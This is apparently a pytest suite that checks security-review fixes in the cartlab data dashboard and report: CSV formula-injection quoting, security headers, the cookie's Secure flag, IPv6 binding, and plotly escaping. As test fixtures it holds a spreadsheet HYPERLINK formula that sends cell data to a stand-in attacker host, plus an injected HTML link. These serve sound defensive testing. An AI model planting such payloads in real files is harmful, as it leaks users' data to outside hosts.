"""Fixes of security review 34 (dashboard and report): CSV formula injection guarded in the dashboard's
downloads and the report's subject_summary.csv (OWASP CSV Injection, ASVS 5.0 1.2.10), no subject id in
`cartlab report`'s stderr, security headers on every dashboard response, the cookie's Secure flag and
per-process salt, a bracketed IPv6 --host, and data strings escaped for plotly's pseudo-HTML.

Expected values are written by hand from those standards (a leading ``'`` before ``= + - @`` tab CR NUL
in a text cell; plotly.js decodes ``&lt;`` ``&gt;`` ``&amp;`` after splitting tags, so entities stay
text), never copied from the program's output."""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import polars as pl
import pytest

from cartlab.app.data import Catalog
from cartlab.app.run import ServerThread
from cartlab.app.security import COOKIE, bind_host, check_bind, is_loopback
from cartlab.app.server import create_app, csv_text, provenance
from cartlab.datasets import seed_case
from cartlab.datasets.synthetic import synthetic_cohort
from cartlab.errors import InputError
from cartlab.io.csv_safe import guard_cell, guard_formulas
from http_raw import raw_request

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
LINK_ID = '<a href="https://evil.example">SYN-1</a>'
TOKEN = "s3cret-token-for-tests-34"


# -- F1: CSV formula injection


def _hostile_frame() -> pl.DataFrame:
    return pl.DataFrame({
        "subject_id": [HYPERLINK, "+SUM(1,1)", "@SUM(1+1)", "-2+3+cmd", "\tTAB", "\rCR", "SYN-0001", "-2.5", None],
        "car_cmax": [-2.5, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0],
        "evidence": [["a.csv:1", "=b"]] * 9,
    })


def test_guard_prefixes_quote_to_text_cells_only():
    out = guard_formulas(_hostile_frame().drop("evidence"))
    # by hand: each text cell starting with = + - @ tab CR gets a leading '; plain text, a number
    # written as text ("-2.5") and null stay; the numeric column stays numeric
    assert out["subject_id"].to_list() == ["'" + HYPERLINK, "'+SUM(1,1)", "'@SUM(1+1)", "'-2+3+cmd", "'\tTAB",
                                           "'\rCR", "SYN-0001", "-2.5", None]
    assert out["car_cmax"].dtype == pl.Float64 and out["car_cmax"][0] == -2.5
    assert guard_cell("\0x") == "'\0x" and guard_cell("+1e3") == "+1e3" and guard_cell("-") == "'-"
    assert guard_formulas(pl.DataFrame({"=col": ["a"]})).columns == ["'=col"]  # a hostile extra column name
    assert guard_formulas(_hostile_frame().drop("evidence"), "off")["subject_id"][0] == HYPERLINK
    with pytest.raises(ValueError, match="quote, off"):
        guard_formulas(_hostile_frame(), "strip")


def test_dashboard_csv_download_round_trip():
    frame = _hostile_frame()
    text = csv_text(frame)  # what every Download CSV button yields
    back = pl.read_csv(io.StringIO(text), infer_schema_length=None)
    assert back["subject_id"][0] == "'" + HYPERLINK
    assert back["car_cmax"].to_list()[0] == -2.5  # still a number
    # the joined evidence list is a text cell starting with "a": unchanged
    assert back["evidence"][0] == "a.csv:1; =b"
    assert not any(line.startswith(("=", "+", "@", '"=')) for line in text.splitlines())
    assert csv_text(frame, "off").splitlines()[1].startswith('"=HYPERLINK')

    class View:
        study_id, overrides, protocol, options = "s", {}, None, {}

    prov = provenance(View(), "subjects", "s.csv", text, csv_formula_guard="quote")
    assert prov["sha256"] == hashlib.sha256(text.encode("utf-8")).hexdigest()  # the guarded bytes
    assert prov["csv_formula_guard"] == "quote"


def test_create_app_refuses_an_unknown_guard():
    catalog = Catalog.from_study(seed_case(), "folder seed_case")
    with pytest.raises(ValueError, match="csv formula guard"):
        create_app(catalog, csv_formula_guard="maybe")


def _hostile_study(tmp: Path, n: int = 3, seed: int = 1, ids: dict[int, str] | None = None) -> Path:
    """A synthetic study whose first subjects get the given ids (every table rewritten as text)."""
    folder = synthetic_cohort(n, seed, tmp / "study")
    ren = {f"SYN-{k:04d}": v for k, v in (ids or {}).items()}
    for f in folder.glob("*.csv"):
        df = pl.read_csv(f, infer_schema=False)
        if "subject_id" in df.columns:
            df.with_columns(pl.col("subject_id").replace(ren)).write_csv(f)
    return folder


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory):
    """The report of a 3-subject synthetic study whose SYN-0001 id is a formula and SYN-0002 a link,
    made without CARTLAB_DEBUG."""
    from cartlab.io import read_study
    from cartlab.report import write_study_report

    tmp = tmp_path_factory.mktemp("s34")
    study = read_study(_hostile_study(tmp, ids={1: HYPERLINK, 2: LINK_ID}))
    old = os.environ.pop("CARTLAB_DEBUG", None)
    try:
        write_study_report(study, tmp / "rep", workers=1, pdf=False)
    finally:
        if old is not None:
            os.environ["CARTLAB_DEBUG"] = old
    return study, tmp / "rep"


def test_report_subject_summary_csv_is_guarded(hostile_report):
    _, rep = hostile_report
    text = (rep / "tables" / "subject_summary.csv").read_text(encoding="utf-8")
    back = pl.read_csv(io.StringIO(text), infer_schema_length=None)
    assert "'" + HYPERLINK in back["subject_id"].to_list()
    assert HYPERLINK not in back["subject_id"].to_list()
    assert back["car_cmax"].dtype == pl.Float64  # numbers stay numbers
    manifest = json.loads((rep / "tables" / "analysis.json").read_text(encoding="utf-8"))
    assert manifest["report_csv"]["csv_formula_guard"] == "quote"


def test_report_warning_counts_instead_of_naming(hostile_report):
    _, rep = hostile_report
    manifest = json.loads((rep / "tables" / "analysis.json").read_text(encoding="utf-8"))
    er = [w["message"] for w in manifest["warnings"] if w["engine"] == "exposure-response"]
    assert er and all(HYPERLINK not in m and LINK_ID not in m for m in er)
    assert any("subjects left out, per outcome row" in m and "exposure_response.csv" in m for m in er)


def test_left_out_message_names_only_when_allowed():
    from cartlab.kinetics.exposure import left_out_message, subject_ids_in_warnings

    left = {"best_response NE or empty": ["A", "B", "A"], "no CAR-T samples": ["C"]}
    assert "A, B" in left_out_message(left)  # default (cartlab analyze, the API): named as before
    with subject_ids_in_warnings(False):
        msg = left_out_message(left)
    # by hand: A and B (A twice) for the first reason, C for the second; counted per reason, never summed
    # over the outcome rows (session 39, review 39 C3)
    assert msg.startswith("subjects left out, per outcome row") and "best_response NE or empty: 2" in msg
    assert "no CAR-T samples: 1" in msg and re.search(r"\b[ABC]\b", msg) is None


def test_cli_report_stderr_names_no_subject(tmp_path):
    from cartlab.analyze import Analysis
    from cartlab.io import read_study

    folder = synthetic_cohort(12, 1, tmp_path / "syn")
    env = {k: v for k, v in os.environ.items() if k != "CARTLAB_DEBUG"}
    r = subprocess.run([sys.executable, "-m", "cartlab", "report", str(folder), "--out", str(tmp_path / "rep"),
                        "--no-pdf", "--workers", "1"], capture_output=True, text=True, env=env, timeout=600,
                       check=False, cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert "SYN-" not in r.stderr
    # the count agrees with the subjects exposure_response.csv names (its own column, another channel)
    er = Analysis(read_study(folder)).table("exposure_response")
    named = {i for cell in er["excluded"].drop_nulls().to_list() for i in re.findall(r"SYN-\d{4}", cell)}
    assert named, "the synthetic study should leave subjects out of exposure-response"
    assert "subjects left out, per outcome row" in " ".join(r.stderr.split())  # counts per reason (s39)
    # lead, session 34: --debug names them (the CLI flag is wired to the report's warning); in this process
    # (session 42: typer's CliRunner, the same exit code and stderr; the run naming no id above stays a process)
    d = _run_here(["--debug", "report", str(folder), "--out", str(tmp_path / "rep_debug"), "--no-pdf", "--workers",
                   "1"], tmp_path)
    assert d.returncode == 0, d.stderr
    assert sorted(named)[0] in d.stderr


def _run_here(args, cwd) -> subprocess.CompletedProcess:
    """The command line in this process (test_cli.run_here), CARTLAB_DEBUG unset."""
    from test_cli import run_here

    return run_here(*args, cwd=cwd, env={"CARTLAB_DEBUG": None})


def test_cli_report_csv_formula_guard_off_writes_cells_unchanged(tmp_path):
    """--csv-formula-guard off: the hostile subject id is written as given (quote, the default, is
    tested above); a wrong value is one clear error."""
    folder = _hostile_study(tmp_path / "h", ids={1: HYPERLINK})
    # in this process (session 42): the files written and the exit code are the point, not the process
    base = ["report", str(folder), "--no-pdf", "--workers", "1"]
    r = _run_here(base + ["--out", str(tmp_path / "off"), "--csv-formula-guard", "off"], tmp_path)
    assert r.returncode == 0, r.stderr
    text = (tmp_path / "off" / "tables" / "subject_summary.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" not in text and "=HYPERLINK" in text
    bad = _run_here(base + ["--out", str(tmp_path / "bad"), "--csv-formula-guard", "maybe"], tmp_path)
    assert bad.returncode == 2 and "Traceback" not in bad.stderr and "csv" in bad.stderr.lower()


# -- F6: data strings escaped for plotly


def test_cohort_plotly_figures_escape_subject_ids(hostile_report):
    from cartlab.analyze import Analysis
    from cartlab.report.cohort_plotly import cohort_figures_plotly, plotly_text

    assert plotly_text("a<b>&c") == "a&lt;b&gt;&amp;c" and plotly_text([1, None, "<"]) == [1, None, "&lt;"]
    study, _ = hostile_report
    views = cohort_figures_plotly(Analysis(study))
    dumped = "".join(v.figure.to_json() for v in views if v.figure is not None)
    assert "evil.example" in dumped  # the subject is drawn ...
    assert "<a href" not in dumped and "\\u003ca href" not in dumped  # ... never as markup
    assert "&lt;a href=" in dumped


def test_course_hover_escapes_data_strings():
    from cartlab.app.figures import _hover

    df = pl.DataFrame({"kind": ["below"], "y": [5.0], "day": [3.0], "unit": ['<a href="https://x.example">u</a>'],
                       "prov": ["observed"], "source": ["<b>lab</b>"], "src_file": ["obs.csv"], "src_row": [2]})
    (text,) = _hover(df, "CAR copies")
    assert "<a " not in text and "<b>" not in text
    assert "&lt;a href" in text and "&lt;b&gt;lab&lt;/b&gt;" in text
    assert text.count("<br>") == 2  # cartlab's own markup kept
    assert "&lt; 5" in text  # the censoring sign "<" as text too


# -- F3 / F4: headers and cookie


@pytest.fixture(scope="module")
def servers():
    catalog = Catalog.from_study(seed_case(), "folder seed_case")
    with ServerThread(create_app(catalog)) as open_srv, \
            ServerThread(create_app(catalog, token=TOKEN, allowed_origins=["https://dash.example.org"])) as tok_srv:
        yield open_srv, tok_srv


SECURITY = {"content-security-policy": "frame-ancestors 'none'", "x-frame-options": "DENY",
            "x-content-type-options": "nosniff", "referrer-policy": "no-referrer"}


@pytest.mark.parametrize("path", ["/", "/session/x/download/dl_cohort?w=", "/nonexistent", "/lib/../x"])
def test_security_headers_on_every_response(servers, path):
    open_srv, tok_srv = servers
    for srv, hdr in ((open_srv, {}), (tok_srv, {}), (tok_srv, {"Authorization": f"Bearer {TOKEN}"})):
        status, headers, _ = raw_request(srv.host, srv.port, path, hdr)
        for k, v in SECURITY.items():
            assert headers.get(k) == v, (path, status, k, headers)
        assert headers.get("cache-control") == "no-store", (path, status, headers)


def test_library_files_keep_nosniff_and_may_be_cached(servers):
    open_srv, _ = servers
    status, headers, _ = raw_request(open_srv.host, open_srv.port, "/lib/plotly-7.1.0/plotly.min.js")
    assert status == 200 and headers["x-content-type-options"] == "nosniff"
    assert headers["content-type"].startswith("text/javascript")
    assert "no-store" not in headers.get("cache-control", "")


def test_cookie_secure_only_over_https(servers):
    _, srv = servers
    _, plain, _ = raw_request(srv.host, srv.port, f"/?token={TOKEN}")
    assert "Secure" not in plain["set-cookie"]  # plain http on loopback: a Secure cookie would not come back
    _, proxied, _ = raw_request(srv.host, srv.port, f"/?token={TOKEN}", {"Host": "dash.example.org"})
    assert proxied["set-cookie"].endswith("; Secure") and "HttpOnly" in proxied["set-cookie"]
    # uvicorn trusts X-Forwarded-Proto from 127.0.0.1 (its --forwarded-allow-ips default): scheme https
    _, fwd, _ = raw_request(srv.host, srv.port, f"/?token={TOKEN}", {"X-Forwarded-Proto": "https"})
    assert fwd["set-cookie"].endswith("; Secure")


def test_restart_invalidates_the_cookie(servers):
    _, srv = servers
    _, h, _ = raw_request(srv.host, srv.port, f"/?token={TOKEN}")
    cookie = h["set-cookie"].split(";")[0]
    assert cookie.startswith(COOKIE + "=")
    assert raw_request(srv.host, srv.port, "/", {"Cookie": cookie})[0] == 200
    catalog = Catalog.from_study(seed_case(), "folder seed_case")
    with ServerThread(create_app(catalog, token=TOKEN)) as restarted:  # same token, a new process salt
        assert raw_request(restarted.host, restarted.port, "/", {"Cookie": cookie})[0] == 403


# -- F5: bracketed IPv6 host


@pytest.mark.parametrize(("given", "bound"), [("[::1]", "::1"), (" [::1] ", "::1"), ("::1", "::1"),
                                              ("127.0.0.1", "127.0.0.1"), ("[::]", "::")])
def test_bind_host_strips_brackets(given, bound):
    assert bind_host(given) == bound


def test_bind_host_refuses_unbalanced_brackets():
    with pytest.raises(InputError, match="not an address"):
        bind_host("[::1")
    assert is_loopback(bind_host("[::1]"))
    with pytest.raises(InputError, match="not a loopback address"):
        check_bind(bind_host("[::]"), None)


def test_cli_serves_on_bracketed_ipv6(tmp_path):
    import socket
    import time

    from cartlab.app.run import free_port
    from cartlab.datasets import seed_case_path

    try:
        socket.socket(socket.AF_INET6).bind(("::1", 0))
    except OSError:
        pytest.skip("no IPv6 loopback here")
    port = free_port()
    env = {k: v for k, v in os.environ.items() if k != "CARTLAB_TOKEN"}
    p = subprocess.Popen([sys.executable, "-m", "cartlab", "serve", str(seed_case_path()), "--host", "[::1]",
                          "--port", str(port)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env,
                         cwd=tmp_path)
    try:
        deadline, status = time.monotonic() + 90, None
        while time.monotonic() < deadline and p.poll() is None:
            try:
                status = raw_request("::1", port, "/", {"Host": f"[::1]:{port}"})[0]
                break
            except OSError:
                time.sleep(0.3)
        assert status == 200, p.poll()
    finally:
        p.terminate()
        out, err = p.communicate(timeout=30)
    assert f"http://[::1]:{port}/" in out and "[[" not in out, (out, err)
